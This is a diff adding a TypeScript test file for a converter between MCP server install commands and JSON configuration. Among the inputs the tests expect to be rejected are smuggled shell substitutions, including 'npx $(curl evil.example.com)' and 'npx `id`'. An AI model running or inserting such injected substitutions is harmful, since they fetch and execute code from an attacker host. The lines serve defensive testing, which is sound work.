@@ -1,0 +1,187 @@
+/** Lines for a terminal: read as servers, and written from servers. */
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how variables look
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { convert } from '../../../../server/convert/index.ts';
+import { quoteWord, splitCommands } from '../../../../server/convert/shell.ts';
+
+const serversOf = async (text: string): Promise<unknown> => JSON.parse((await convert(text)).text).mcpServers;
+const http = (url: string, more: object = {}): object => ({ type: 'http', url, ...more });
+
+const lines: readonly (readonly [line: string, servers: object])[] = [
+  ['claude mcp add notion --transport http https://mcp.notion.com/mcp', { notion: http('https://mcp.notion.com/mcp') }],
+  [
+    'claude mcp add --transport=sse asana https://mcp.asana.com/sse',
+    { asana: { type: 'sse', url: 'https://mcp.asana.com/sse' } },
+  ],
+  ['claude mcp add web https://example.com/mcp', { web: http('https://example.com/mcp') }],
+  [
+    'claude mcp add -t http -s user api https://api.example.com/mcp --header "Authorization: Bearer $TOKEN" -H \'X-A: b c\'',
+    { api: http('https://api.example.com/mcp', { headers: { Authorization: 'Bearer ${TOKEN}', 'X-A': 'b c' } }) },
+  ],
+  [
+    'claude mcp add --env KEY=v OTHER="a b" --transport stdio airtable -- npx -y airtable-mcp-server --flag',
+    { airtable: { command: 'npx', args: ['-y', 'airtable-mcp-server', '--flag'], env: { KEY: 'v', OTHER: 'a b' } } },
+  ],
+  ['claude mcp add fs npx -y server-fs .', { fs: { command: 'npx', args: ['-y', 'server-fs', '.'] } }],
+  [
+    'claude mcp add --client-id abc --callback-port 8080 --client-secret -t http o https://o.example.com',
+    { o: http('https://o.example.com', { oauth: { clientId: 'abc', callbackPort: 8080 } }) },
+  ],
+  [
+    `claude mcp add-json weather '{"type":"http","url":"https://w.example.com/mcp","headers":{"A":"b"}}'`,
+    { weather: http('https://w.example.com/mcp', { headers: { A: 'b' } }) },
+  ],
+  ['codex mcp add docs --env A=1 -- npx -y docs', { docs: { command: 'npx', args: ['-y', 'docs'], env: { A: '1' } } }],
+  [
+    'codex mcp add web --url https://example.com/mcp --bearer-token-env-var TOK',
+    { web: http('https://example.com/mcp', { headers: { Authorization: 'Bearer ${TOK}' } }) },
+  ],
+  [
+    'gemini mcp add -s project -t http -H "X: y" --timeout 5000 --trust --include-tools a,b web https://example.com/mcp',
+    { web: http('https://example.com/mcp', { headers: { X: 'y' }, timeout: 5000 }) },
+  ],
+  [
+    'gemini mcp add -e A=1 local python server.py --port 8080',
+    { local: { command: 'python', args: ['server.py', '--port', '8080'], env: { A: '1' } } },
+  ],
+  [
+    `code --add-mcp '{"name":"play wright","command":"npx","args":["\${workspaceFolder}"]}'`,
+    { 'play-wright': { command: 'npx', args: ['${workspaceFolder:-.}'] } },
+  ],
+  [
+    `code-insiders --add-mcp "{\\"name\\":\\"x\\",\\"url\\":\\"https://example.com/mcp\\"}"`,
+    { x: http('https://example.com/mcp') },
+  ],
+  [
+    'npx -y @modelcontextprotocol/server-github@2025.4.8',
+    { github: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@2025.4.8'] } },
+  ],
+  [
+    '$ uvx mcp-server-git==1.0 --repository .',
+    { git: { command: 'uvx', args: ['mcp-server-git==1.0', '--repository', '.'] } },
+  ],
+  [
+    'TOKEN=abc DEBUG=1 npx @scope/tool',
+    { tool: { command: 'npx', args: ['@scope/tool'], env: { TOKEN: 'abc', DEBUG: '1' } } },
+  ],
+  [
+    'docker run -i --rm -v $(pwd):/w mcp/puppeteer:1.0',
+    { puppeteer: { command: 'docker', args: ['run', '-i', '--rm', '-v', '${PWD}:/w', 'mcp/puppeteer:1.0'] } },
+  ],
+  [
+    'node "./my tools/db-server.mjs" --read-only',
+    { db: { command: 'node', args: ['./my tools/db-server.mjs', '--read-only'] } },
+  ],
+  ['python -m weather.server', { 'weather.server': { command: 'python', args: ['-m', 'weather.server'] } }],
+  [
+    'uv run --directory /srv weather.py',
+    { srv: { command: 'uv', args: ['run', '--directory', '/srv', 'weather.py'] } },
+  ],
+  ['https://mcp.linear.app/sse', { linear: { type: 'sse', url: 'https://mcp.linear.app/sse' } }],
+  ['http://127.0.0.1:3000/mcp', { '127.0.0.1': http('http://127.0.0.1:3000/mcp') }],
+  [
+    '# two of them\nclaude mcp add a -- npx -y a \\\n  --more\nclaude mcp add b -- npx -y b; claude mcp add c -- c',
+    {
+      a: { command: 'npx', args: ['-y', 'a', '--more'] },
+      b: { command: 'npx', args: ['-y', 'b'] },
+      c: { command: 'c' },
+    },
+  ],
+];
+
+describe('read', () => {
+  test.each(lines)('%s', async (line, servers) => {
+    expect(await serversOf(line)).toEqual(servers);
+  });
+
+  test('options that the format has no word for are reported', async () => {
+    const { report } = await convert('gemini mcp add --trust --exclude-tools a,b --description hi x node x.js');
+    expect(report.map(({ field }) => field)).toEqual(['description', 'excludeTools', 'trust']);
+  });
+
+  test.each([
+    '',
+    'hello world',
+    'npm install express',
+    'uv pip install x',
+    'bash install.sh',
+    'docker build .',
+    'docker run',
+    'npx',
+    'claude mcp list',
+    'claude mcp add',
+    'claude mcp add x',
+    'claude mcp add --unknown x -- y',
+    "claude mcp add-json x '{broken'",
+    'npx foo | tee log',
+    'npx foo > log',
+    'npx "foo',
+    'npx $(curl evil.example.com)',
+    'npx `id`',
+    'npx a\nand then some words',
+    'ftp://example.com/x',
+    'code .',
+    '__proto__ mcp add x -- y',
+    'constructor mcp add x -- y',
+  ])('is no server: %s', async (line) => {
+    await expect(convert(line)).rejects.toMatchObject({ name: 'ConversionError' });
+  });
+});
+
+describe('quoting', () => {
+  test.each([
+    [`a 'b c' "d e" f\\ g ''`, ['a', 'b c', 'd e', 'f g', '']],
+    [`"a\\"b" 'c\\d' "e\\f"`, ['a"b', 'c\\d', 'e\\f']],
+    [`$A "$B" '$C' \\$D $`, ['${A}', '${B}', '$C', '$D', '$']],
+    ['a#b #c', ['a#b']],
+    ["'it'\\''s'", ["it's"]],
+  ])('%s', (line, words) => {
+    expect(splitCommands(line)).toEqual([words]);
+  });
+
+  test('whatever is quoted comes out as it went in', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (words) => {
+        // A lone prompt sign in front belongs to a terminal.
+        fc.pre(words[0] !== '$' && words[0] !== '>');
+        expect(splitCommands(words.map(quoteWord).join(' '))).toEqual([words]);
+      }),
+    );
+  });
+});
+
+describe('write', () => {
+  const line = async (server: object, name = 'docs'): Promise<string> =>
+    (await convert(JSON.stringify({ mcpServers: { [name]: server } }), { to: 'command' })).text.trim();
+
+  test('a process', async () => {
+    expect(await line({ command: 'npx', args: ['-y', 'a b'], env: { KEY: '${KEY}', B: 'x' } })).toBe(
+      `claude mcp add --env 'KEY=\${KEY}' --env B=x --transport stdio docs -- npx -y 'a b'`,
+    );
+  });
+
+  test('an endpoint', async () => {
+    expect(await line(http('https://example.com/mcp', { headers: { Authorization: 'Bearer ${T}' } }))).toBe(
+      `claude mcp add --transport http docs https://example.com/mcp --header 'Authorization: Bearer \${T}'`,
+    );
+    expect(await line(http('https://example.com', { oauth: { clientId: 'c', callbackPort: 80 } }))).toBe(
+      'claude mcp add --client-id c --callback-port 80 --transport http docs https://example.com',
+    );
+  });
+
+  test('what the line cannot say is reported', async () => {
+    const text = JSON.stringify({ mcpServers: { docs: { command: 'x', cwd: '/srv', enabled: false, timeout: 5 } } });
+    const { report } = await convert(text, { to: 'command' });
+    expect(report.map(({ field }) => field)).toEqual(['cwd', 'enabled', 'timeout']);
+  });
+
+  test.each(lines.filter(([first]) => !first.includes('--callback-port')))(
+    'a line that was read is written and read again: %s',
+    async (first, servers) => {
+      const { text } = await convert((await convert(first)).text, { to: 'command' });
+      const lost = JSON.parse(JSON.stringify(servers, (key, value) => (key === 'timeout' ? undefined : value)));
+      expect(await serversOf(text)).toEqual(lost);
+    },
+  );
+});
